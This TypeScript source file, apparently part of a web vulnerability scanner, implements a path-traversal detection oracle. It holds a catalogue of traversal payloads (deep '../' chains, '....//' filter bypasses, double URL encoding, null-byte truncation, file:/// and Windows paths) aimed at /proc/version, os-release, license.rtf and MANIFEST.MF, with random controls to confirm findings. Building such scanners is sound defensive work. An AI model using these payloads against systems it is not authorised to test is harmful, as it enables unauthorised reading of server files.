import { randomInt } from 'node:crypto';
import type { Page } from '../../page';
import { decodedEntities } from '../../entities';
import { type Experiment, type Oracle } from '../experiment';
import type { InsertionPoint } from '../../experiment-record';
import { pathOf } from '../insertion-point';
import type { Outcome } from '../outcome';
import { isHeads } from './conditions';
import { proveExistence } from './file-existence';
import { ODDS, DECISIVE_ANSWERS } from './follow-conditions';
import { firstProof, JudgedAnswers, type Reader } from './variants';
import { randomWord } from '../../twins';

/**
 * A file that no account can write or replace: a page may open its parameter for writing. Nobody can create a name next to
 * it either, so that the sibling, too, does nothing there.
 */
interface KnownFile {
  /** Below the root. */
  readonly path: string;
  /** A name that does not exist and that nobody can create. */
  sibling(turn: number): string;
  /** The same path in a spelling that no search for a text follows. */
  spell(path: string): string;
  /** Where its text begins. */
  readonly mark: string;
  readonly grammar: RegExp;
}

/** File systems ignore further slashes. A search for texts that contain the path does not. */
const withSlashes = (path: string): string => path.replaceAll('/', () => '/'.repeat(randomInt(2, 5)));

/** A search that ignores signs finds the same texts for every second one. */
const beside = (path: string) => (turn: number) => `${path}${turn % 2 === 0 ? ',' : `-${randomWord()}`}`;

/** The kernel makes it. */
const LINUX: KnownFile = {
  path: 'proc/version',
  spell: withSlashes,
  sibling: beside('proc/version'),
  mark: 'Linux version ',
  grammar: /^Linux version \d{1,2}\.\d{1,3}\.\d[\w.+~-]{0,80} [^\n<]{0,400}#\d{1,6}[\w.~-]{0,40} [A-Z]/,
};

/** Only root writes it. For filters that know the usual names. */
const RELEASE: KnownFile = {
  path: 'usr/lib/os-release',
  spell: withSlashes,
  sibling: () => `usr/lib/os-release/${randomWord()}`,
  mark: 'NAME="',
  grammar: /^NAME="[^"\n<]{1,80}"\r?\n(?:[A-Z_]{2,30}=[^\n<]{0,200}\r?\n){2}/,
};

/** Owned by the installer, which alone may write it; administrators could write `win.ini`. A file has no names below it. */
const WINDOWS: KnownFile = {
  path: 'Windows/System32/license.rtf',
  spell: withSlashes,
  sibling: () => `Windows/System32/license.rtf/${randomWord()}`,
  mark: 'rtf1',
  grammar: /^rtf1[^<]{0,200}\\(?:ansi|deff|fonttbl)/,
};

/**
 * Of a Java application, whose container shows it to nobody, and where nobody reads it. Only what resolves paths as texts finds
 * it behind a folder that does not exist: the kernel, which opens files for writing too, does not.
 */
const MANIFEST: KnownFile = {
  path: 'META-INF/MANIFEST.MF',
  spell: (path) => path.replace('/', `/${randomWord()}/../`),
  sibling: beside('META-INF/MANIFEST.MF'),
  mark: 'Manifest-Version: ',
  grammar: /^Manifest-Version: \d\.\d\s?\r?\n(?:[A-Za-z\d][\w-]{0,69}:[^\n<]{0,200}(?:\r?\n|$))+/,
};

const UP = '../'.repeat(12);
const LONGEST = 1_500;

const encodedOnce = (value: string): string => encodeURIComponent(value).replaceAll('.', '%2e');

/** `folders` is the number of those of the page. */
type Write = (path: string, original: string, folders: number) => string;

const extensionOf = (original: string): string => /\.\w{1,5}$/.exec(original)?.[0] ?? '.html';
const folderOf = (original: string): string => /^.*[/\\]/.exec(original)?.[0] ?? '';
const foldersOf = (page: string): number => page.split('/').length - 2;
const upwards = (folders: number): string => `/${'../'.repeat(Math.max(0, folders))}`;

const hasFolder = ({ value }: InsertionPoint): boolean => folderOf(value) !== '';
/** A container of Java answers it: so its page may be as deep in the application as what the value follows. */
const isOfServlet = ({ request }: InsertionPoint): boolean =>
  /\.(?:jspx?|jsf|do|action)$/i.test(pathOf(request.path)) && foldersOf(pathOf(request.path)) > 0;

interface Variant {
  readonly file: KnownFile;
  readonly write: Write;
  readonly fits?: (point: InsertionPoint) => boolean;
}

/** By their names, which findings keep. */
const VARIANTS: ReadonlyMap<string, Variant> = new Map(
  Object.entries({
    relative: { file: LINUX, write: (path) => `${UP}${path}` },
    absolute: { file: LINUX, write: (path) => `/${path}` },
    // The application puts it behind the name of a folder.
    'behind a slash': { file: LINUX, write: (path) => `/${UP}${path}` },
    'in the folder': { file: LINUX, write: (path, original) => `${folderOf(original)}${UP}${path}`, fits: hasFolder },
    'dots that a filter leaves': {
      file: LINUX,
      write: (path, original) => `${/^[/\\]/.test(original) ? '/' : ''}${'....//'.repeat(12)}${path}`,
    },
    'encoded once more': { file: LINUX, write: (path) => encodedOnce(`${UP}${path}`) },
    'before a null byte': { file: LINUX, write: (path, original) => `${UP}${path}\0${extensionOf(original)}` },
    'file URL': { file: LINUX, write: (path) => `file:///${path}` },
    'Windows, relative': { file: WINDOWS, write: (path) => `${UP}${path}` },
    'Windows, backslashes': { file: WINDOWS, write: (path) => `${UP}${path}`.replaceAll('/', '\\') },
    'Windows, absolute': { file: WINDOWS, write: (path) => `C:/${path}` },
    'Java, absolute': { file: MANIFEST, write: (path) => `/${path}` },
    'Java, one folder up': { file: MANIFEST, write: (path) => `../${path}` },
    // The first folder of the page is often the name of the application.
    'Java, from the page': {
      file: MANIFEST,
      write: (path, _original, folders) => `${upwards(folders - 1)}${path}`,
      fits: isOfServlet,
    },
    'Java, from the page without a name': {
      file: MANIFEST,
      write: (path, _original, folders) => `${upwards(folders)}${path}`,
      fits: isOfServlet,
    },
    'Java, dots that a filter leaves': {
      file: MANIFEST,
      write: (path, _original, folders) => `${upwards(folders - 1)}${path}`.replaceAll('../', '....//'),
      fits: isOfServlet,
    },
  } satisfies Record<string, Variant>),
);

const FURTHER_VARIANTS: ReadonlyMap<string, Variant> = new Map(
  Object.entries({
    'another file, relative': { file: RELEASE, write: (path) => `${UP}${path}` },
    'another file, absolute': { file: RELEASE, write: (path) => `/${path}` },
    'three folders up': { file: LINUX, write: (path) => `../../../${path}` },
    'encoded twice more': { file: LINUX, write: (path) => encodeURIComponent(encodedOnce(`${UP}${path}`)) },
    'behind a dot': { file: LINUX, write: (path) => `./${UP}${path}` },
  } satisfies Record<string, Variant>),
);

const contentOf =
  ({ mark, grammar }: KnownFile): Reader =>
  ({ text }: Page) => {
    const at = text.indexOf(mark);
    const start = at < 0 ? '' : decodedEntities(text.slice(at, at + LONGEST));
    return grammar.exec(start)?.[0].slice(0, 200) ?? null;
  };

/** Before paths of the root, where the answer only tells whether the file exists. */
const EXISTENCE: ReadonlyMap<string, string> = new Map([
  ['existence, relative', UP],
  ['existence, absolute', '/'],
]);

const DRAWN = `${DECISIVE_ANSWERS} times one of two names was drawn at random, that of a known file or one that cannot exist. Each answer had the text of the file or not, as the name said. The chance of that is ${ODDS}.`;
/** A repeat draws nothing: its finding has the proof. */
const REPEATED =
  'Two answers had the text of the file, and one for a name that cannot exist did not. The names were not drawn at random, as they were when the weakness was found.';

async function prove(name: string, experiment: Experiment, answers: JudgedAnswers): Promise<Outcome | null> {
  const prefix = EXISTENCE.get(name);
  if (prefix !== undefined) return proveExistence(name, prefix, experiment, answers);
  const variant = VARIANTS.get(name) ?? FURTHER_VARIANTS.get(name);
  if (variant === undefined) return null;
  const { file } = variant;
  const { value: original, name: parameter, request } = experiment.point;
  const write = (path: string): string => variant.write(file.spell(path), original, foldersOf(pathOf(request.path)));
  const read = contentOf(file);
  const shown = (): Promise<string | null> => answers.shows(write(file.path), `the text of /${file.path}`, read);
  let siblings = 0;
  const isAbsent = (): Promise<boolean> =>
    answers.lacks(write(file.sibling((siblings += 1))), 'control: a name that cannot exist', read);
  if ((await shown()) === null || !(await isAbsent())) return null;
  for (let choice = 0; choice < (experiment.isRepeat ? 0 : DECISIVE_ANSWERS); choice += 1) {
    const follows = isHeads() ? (await shown()) !== null : await isAbsent();
    if (!follows) return null;
  }
  const text = await shown();
  if (text === null) return null;
  return {
    state: 'proved',
    detail: `The value of ${parameter} is opened as a file: the answer has the text of /${file.path} (${text}).`,
    certainty: experiment.isRepeat ? REPEATED : DRAWN,
    variant: name,
  };
}

/** Proves that a value is opened as a file: its answer is a file of the system that nobody can write. */
export const pathTraversal: Oracle = {
  observe(experiment) {
    const answers = new JudgedAnswers(experiment);
    const { point } = experiment;
    return firstProof(experiment, answers, {
      candidates: () =>
        Promise.resolve([
          ...[...VARIANTS].filter(([, { fits }]) => fits?.(point) ?? true).map(([name]) => name),
          ...EXISTENCE.keys(),
        ]),
      further: [...FURTHER_VARIANTS.keys()],
      prove: (name) => prove(name, experiment, answers),
      otherwise: 'no answer follows the names of known files',
    });
  },
};
